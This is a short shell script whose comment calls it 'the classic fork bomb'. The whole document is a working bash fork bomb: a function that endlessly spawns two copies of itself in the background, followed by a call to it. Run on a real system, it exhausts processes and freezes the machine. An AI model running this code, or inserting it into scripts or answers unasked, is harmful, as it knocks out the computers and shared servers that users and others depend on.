# The classic fork bomb: each copy starts two more, forever.
bomb() { bomb | bomb & }
bomb
wait
sleep 30
